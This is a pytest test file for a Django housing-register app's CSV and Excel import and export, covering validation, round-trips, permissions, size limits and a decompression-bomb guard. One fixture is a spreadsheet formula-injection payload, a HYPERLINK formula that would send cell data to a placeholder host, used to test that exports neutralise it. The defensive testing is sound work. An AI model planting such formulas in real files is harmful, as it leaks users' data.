"""Import and export with Kobo's fields: every row checked first, all or nothing,
and export → import → export gives the same file."""

import csv
import io
import zipfile

import pytest
from django.test import override_settings
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from boligtorg.core.factories import MunicipalityFactory, actor_for, member
from boligtorg.core.models import AuditEvent, Role
from boligtorg.housing import services, transfer
from boligtorg.housing.factories import DwellingFactory, LandlordFactory
from boligtorg.housing.models import Dwelling, DwellingStatusChange, Property

pytestmark = pytest.mark.django_db

GOOD = {
    "address": "Kongens gate {n}",
    "unit_number": "H0101",
    "dwelling_type": "apartment",
    "bedrooms": "2",
    "usable_area": "54,5",
    "floor": "1",
    "building": "",
    "gnr": "400",
    "bnr": "{n}",
    "owner": "",
    "disposition_form": "owned",
    "features": "lift;pets_allowed",
    "shared_house": "",
    "wheelchair_accessible": "no",
    "rent": "9500",
    "rent_to_own": "yes",
    "status": "ready",
}


def _csv(rows, delimiter=";"):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(GOOD), delimiter=delimiter)
    writer.writeheader()
    for n, row in enumerate(rows, start=1):
        writer.writerow({key: str(value).format(n=n) for key, value in row.items()})
    return out.getvalue().encode()


def _import(actor, data, name="dwellings.csv"):
    rows, errors = transfer.read_upload(name, data)
    return services.dwellings_import(actor=actor, rows=rows, errors=errors)


def test_a_clean_file_imports_every_row_with_properties_and_history(kari_actor, english_messages):
    assert _import(kari_actor, _csv([GOOD] * 25)) == 25
    assert Dwelling.objects.count() == 25
    assert Property.objects.count() == 25
    assert DwellingStatusChange.objects.filter(reason="Imported").count() == 25
    assert AuditEvent.objects.filter(object_type="housing.dwelling").count() == 25
    first = Dwelling.objects.get(address="Kongens gate 1")
    assert (first.usable_area, first.features, first.rent_to_own) == (
        54.5,
        ["lift", "pets_allowed"],
        True,
    )


def test_each_imported_dwelling_has_its_first_status_and_an_audit_event_of_its_own(
    kari_actor, english_messages
):
    rows = [GOOD, {**GOOD, "status": "maintenance", "address": "Kongens gate {n}" + "x" * 186}]
    assert _import(kari_actor, _csv(rows)) == 2
    for dwelling in Dwelling.objects.all():
        change = dwelling.status_changes.get()
        assert (change.from_status, change.to_status, change.reason) == (
            "",
            dwelling.status,
            "Imported",
        )
        assert change.changed_by == kari_actor.user
        event = AuditEvent.objects.get(object_type="housing.dwelling", object_id=str(dwelling.pk))
        assert (event.actor, event.municipality, event.action) == (
            kari_actor.user,
            kari_actor.municipality,
            "create",
        )
        assert event.object_repr == str(dwelling)[:200]
        assert event.changes == {"import": [None, True]}
    assert {d.status for d in Dwelling.objects.all()} == {"ready", "maintenance"}


def test_an_import_fills_the_columns_a_file_leaves_out_with_their_defaults(kari_actor):
    data = b"address;unit_number;dwelling_type;bedrooms;disposition_form;rent;status\n"
    data += b"Munkegata 3;H0201;apartment;3;owned;8700;maintenance\n"
    assert _import(kari_actor, data) == 1
    dwelling = Dwelling.objects.get()
    assert (dwelling.status, dwelling.features, dwelling.co_op_name, dwelling.usable_area) == (
        "maintenance",
        [],
        "",
        None,
    )
    assert dwelling.property is None


def test_numbers_beyond_what_the_register_holds_are_reported_as_a_saved_dwelling_would_be(
    kari_actor, english_messages
):
    rows = [
        {**GOOD, "usable_area": "123456,5"},
        {**GOOD, "bnr": "-2"},
        {**GOOD, "gnr": "-4"},
        {**GOOD, "rent": "12345678901"},
    ]
    with pytest.raises(services.ImportRejected) as exc:
        _import(kari_actor, _csv(rows))
    found = {(e.line, e.column): e.message for e in exc.value.errors}
    assert found == {
        (2, "usable_area"): "Ensure that there are no more than 6 digits in total.",
        (3, "bnr"): "Ensure this value is greater than or equal to 0.",
        (4, "gnr"): "Ensure this value is greater than or equal to 0.",
        (5, "rent"): "Ensure that there are no more than 10 digits in total.",
    }
    assert not Dwelling.objects.exists()


def test_three_bad_rows_out_of_many_are_all_reported_and_nothing_is_written(kari_actor):
    rows = [GOOD] * 300
    rows[9] = {**GOOD, "unit_number": "H01"}
    rows[99] = {**GOOD, "rent": "-10", "bedrooms": "two"}
    rows[299] = {**GOOD, "status": "occupied"}
    with pytest.raises(services.ImportRejected) as exc:
        _import(kari_actor, _csv(rows))
    found = [(e.line, e.column) for e in exc.value.errors]
    assert found == [
        (11, "unit_number"),
        (101, "bedrooms"),
        (101, "rent"),
        (301, "status"),
    ]
    assert exc.value.errors[0].message == str(services.ERROR_UNIT_NUMBER)
    assert not Dwelling.objects.exists()
    assert not Property.objects.exists()


def test_an_unknown_owner_and_a_unit_twice_in_the_file_are_reported(kari_actor, english_messages):
    rows = [{**GOOD, "owner": "Nobody AS", "disposition_form": "leased"}, GOOD]
    data = _csv(rows).replace(b"Kongens gate 2", b"Kongens gate 1")
    with pytest.raises(services.ImportRejected) as exc:
        _import(kari_actor, data)
    messages = {(e.line, e.column): e.message for e in exc.value.errors}
    assert "Nobody AS" in messages[(2, "owner")]
    assert "already on line 2" in messages[(3, "unit_number")]


def test_a_file_without_a_required_column_is_refused_as_a_whole(kari_actor):
    with pytest.raises(transfer.FileRejected) as exc:
        _import(kari_actor, b"address;bedrooms\nKongens gate 1;2\n")
    assert "unit_number" in str(exc.value)


def test_norwegian_column_names_and_commas_are_accepted(kari_actor):
    data = (
        b"adresse,bruksenhetsnummer,boligtype,soverom,disposisjonsform,husleie,status\n"
        b"Munkegata 3,h0201,Apartment,3,owned,8700,ready\n"
    )
    assert _import(kari_actor, data) == 1
    assert Dwelling.objects.get().unit_number == "H0201"


def test_an_excel_file_imports_like_a_csv_file(kari_actor):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(GOOD))
    sheet.append(
        [
            {"bedrooms": 3, "rent": 9100, "usable_area": 61.5}.get(k, v.format(n=1))
            for k, v in GOOD.items()
        ]
    )
    data = io.BytesIO()
    workbook.save(data)
    assert _import(kari_actor, data.getvalue(), "kobo.xlsx") == 1
    dwelling = Dwelling.objects.get()
    assert (dwelling.bedrooms, dwelling.rent, float(dwelling.usable_area)) == (3, 9100, 61.5)


def test_a_file_of_another_kind_is_refused(kari_actor):
    with pytest.raises(transfer.FileRejected):
        _import(kari_actor, b"x", "dwellings.pdf")
    with pytest.raises(transfer.FileRejected):
        _import(kari_actor, b"not a zip", "dwellings.xlsx")


def _register_with_every_kind_of_value(trondheim):
    landlord = LandlordFactory(municipality=trondheim, name="Utleiehuset AS")
    DwellingFactory(
        municipality=trondheim,
        address="Elgeseter gate 1",
        unit_number="H0101",
        features=["lift", "ground_floor"],
        wheelchair_accessible=True,
        rent_to_own=True,
        floor=-1,
        usable_area="41.5",
        disposition_form="leased",
        landlord=landlord,
        head_lease_start="2024-01-01",
        head_lease_end="2027-12-31",
        head_lease_rent=11000,
        rent_guarantee=30000,
        fdv_id="FDV-77",
    )
    DwellingFactory(
        municipality=trondheim,
        address="Lade allé 5; oppgang B",
        unit_number="U0102",
        disposition_form="co_op_share",
        co_op_name="Lade borettslag",
        co_op_units=120,
        usable_area=None,
        floor=None,
        status="maintenance",
    )
    DwellingFactory(
        municipality=trondheim,
        address='Nedre "Bakklandet" 2',
        unit_number="L0301",
        disposition_form="nomination_right",
        nomination_development="Nyhavna",
    )


def _export(actor, file_format):
    from boligtorg.housing import selectors

    dwellings = selectors.dwelling_export_list(actor=actor)
    if file_format == "csv":
        out = io.StringIO()
        transfer.write_csv(dwellings, out)
        return out.getvalue().encode("utf-8")
    out = io.BytesIO()
    transfer.write_xlsx(dwellings, out)
    return out.getvalue()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_then_import_round_trips_exactly(trondheim, kari_actor, file_format):
    _register_with_every_kind_of_value(trondheim)
    from boligtorg.housing.models import Property, SharedHouse

    house = SharedHouse.objects.create(municipality=trondheim, name="Klyngen")
    Dwelling.objects.filter(unit_number="L0301").update(
        shared_house=house,
        property=Property.objects.create(
            municipality=trondheim, gnr=7, bnr=9, building_name="Hus B"
        ),
    )
    exported = _export(kari_actor, file_format)
    malvik = MunicipalityFactory(name="Malvik", code="5031")
    bjorn = actor_for(member("bjorn", malvik, Role.CASEWORKER), malvik)
    LandlordFactory(municipality=malvik, name="Utleiehuset AS")
    assert _import(bjorn, exported, f"export.{file_format}") == 3
    again = _export(bjorn, file_format)
    if file_format == "csv":
        assert again == exported
    else:
        assert transfer.read_xlsx(again)[0] == transfer.read_xlsx(exported)[0]
        assert [r.values for r in transfer.read_xlsx(again)[0]] == [
            r.values for r in transfer.read_csv(_export(kari_actor, "csv"))[0]
        ]


def test_the_upload_page_shows_each_bad_row_and_writes_nothing(english, kari):
    rows = [GOOD] * 10
    rows[2] = {**GOOD, "unit_number": "X1"}
    english.force_login(kari)
    upload = io.BytesIO(_csv(rows))
    upload.name = "kobo.csv"
    response = english.post(reverse("housing:dwelling_import"), {"file": upload})
    page = response.content.decode()
    assert "Nothing was imported: 1 row has errors." in page
    assert "<code>unit_number</code>" in page
    assert not Dwelling.objects.exists()


def test_the_upload_page_imports_a_good_file(english, kari):
    english.force_login(kari)
    upload = io.BytesIO(_csv([GOOD] * 4))
    upload.name = "kobo.csv"
    response = english.post(reverse("housing:dwelling_import"), {"file": upload}, follow=True)
    assert "4 dwellings were imported." in response.content.decode()


def test_the_export_downloads_and_is_audited(english, kari, dwelling):
    english.force_login(kari)
    response = english.get(reverse("housing:dwelling_export"), {"format": "xlsx"})
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert AuditEvent.objects.filter(action="export").count() == 1
    csv_text = english.get(reverse("housing:dwelling_export")).content.decode("utf-8-sig")
    assert csv_text.splitlines()[0].startswith("address;unit_number;dwelling_type")


def test_per_may_export_but_not_import(client, per):
    client.force_login(per)
    assert client.get(reverse("housing:dwelling_export")).status_code == 200
    assert client.get(reverse("housing:dwelling_import")).status_code == 403


FORMULA = '=HYPERLINK("http://x.invalid/?"&A2,"Klikk")'


def test_a_formula_as_an_address_is_inert_text_in_both_exports(trondheim, kari_actor):
    DwellingFactory(municipality=trondheim, address=FORMULA, unit_number="H0101", floor=-1)
    DwellingFactory(municipality=trondheim, address="@SUM(1+1)", unit_number="H0102")
    sheet = load_workbook(io.BytesIO(_export(kari_actor, "xlsx"))).active
    cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    address = cells["H0101"][0]
    assert (address.data_type, address.value, address.quotePrefix) == ("s", FORMULA, True)
    floor = cells["H0101"][transfer.HEADER.index("floor")]
    assert (floor.data_type, floor.value) == ("n", -1)
    assert cells["H0102"][0].data_type == "s"
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    lines = list(
        csv.reader(io.StringIO(_export(kari_actor, "csv").decode("utf-8-sig")), delimiter=";")
    )
    by_unit = {line[1]: line for line in lines[1:]}
    assert by_unit["H0101"][0] == "'" + FORMULA
    assert by_unit["H0101"][transfer.HEADER.index("floor")] == "-1"
    assert by_unit["H0102"][0] == "'@SUM(1+1)"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_formula_like_text_round_trips_exactly(trondheim, kari_actor, file_format):
    longest = "=" + "x" * 199  # the quote the CSV adds does not count against the 200
    for unit, address in [("H0101", FORMULA), ("H0102", "'=1+1"), ("H0103", longest)]:
        DwellingFactory(municipality=trondheim, address=address, unit_number=unit)
    DwellingFactory(municipality=trondheim, address="-", unit_number="H0104", co_op_name="+47")
    exported = _export(kari_actor, file_format)
    malvik = MunicipalityFactory(name="Malvik", code="5031")
    bjorn = actor_for(member("bjorn", malvik, Role.CASEWORKER), malvik)
    assert _import(bjorn, exported, f"export.{file_format}") == 4
    assert dict(
        Dwelling.objects.filter(municipality=malvik).values_list("unit_number", "address")
    ) == {
        "H0101": FORMULA,
        "H0102": "'=1+1",
        "H0103": longest,
        "H0104": "-",
    }
    again = _export(bjorn, file_format)
    if file_format == "csv":
        assert again == exported
    else:
        assert transfer.read_xlsx(again)[0] == transfer.read_xlsx(exported)[0]


def _post_import(client, data, name):
    upload = io.BytesIO(data)
    upload.name = name
    return client.post(reverse("housing:dwelling_import"), {"file": upload})


def _xlsx(rows):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(GOOD))
    for n, row in enumerate(rows, start=1):
        sheet.append([str(value).format(n=n) for value in row.values()])
    data = io.BytesIO()
    workbook.save(data)
    return data.getvalue()


@override_settings(BOLIGTORG_IMPORT_MAX_ROWS=5)
@pytest.mark.parametrize(("name", "make"), [("kobo.csv", _csv), ("kobo.xlsx", _xlsx)])
def test_a_file_over_the_row_limit_is_refused_at_its_field_and_nothing_is_written(
    english, kari, name, make
):
    english.force_login(kari)
    response = _post_import(english, make([GOOD] * 6), name)
    assert response.status_code == 200
    assert response.context["form"].errors["file"] == [
        "The file has more than 5 rows, and at most 5 can be imported at once. "
        "Split it into files of at most 5 rows and import them one after another."
    ]
    assert not Dwelling.objects.exists()
    assert not AuditEvent.objects.filter(object_type="housing.dwelling").exists()
    assert _post_import(english, make([GOOD] * 5), name).status_code == 302
    assert Dwelling.objects.count() == 5


@override_settings(BOLIGTORG_IMPORT_MAX_BYTES=2 * 1024 * 1024)
def test_a_file_over_the_byte_limit_is_refused_at_its_field(english, kari):
    english.force_login(kari)
    padding = b"#" * (2 * 1024 * 1024)
    response = _post_import(english, _csv([GOOD]) + padding, "kobo.csv")
    assert response.context["form"].errors["file"] == [
        "The file is larger than 2 MB. Split it into smaller files and import them "
        "one after another."
    ]
    assert not Dwelling.objects.exists()


@override_settings(BOLIGTORG_IMPORT_MAX_BYTES=10_000)
def test_a_small_workbook_that_unpacks_to_a_huge_sheet_is_refused_before_it_is_read(
    english_messages,
):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * 200_000)
    assert len(out.getvalue()) < 10_000
    with pytest.raises(transfer.FileRejected) as exc:
        transfer.read_xlsx(out.getvalue())
    assert "Split it into files of at most 20,000 rows" in str(exc.value)


def test_the_upload_page_states_the_limits_before_a_file_is_chosen(english, kari):
    english.force_login(kari)
    page = english.get(reverse("housing:dwelling_import")).content.decode()
    assert "At most 20,000 rows and 10 MB a file." in page
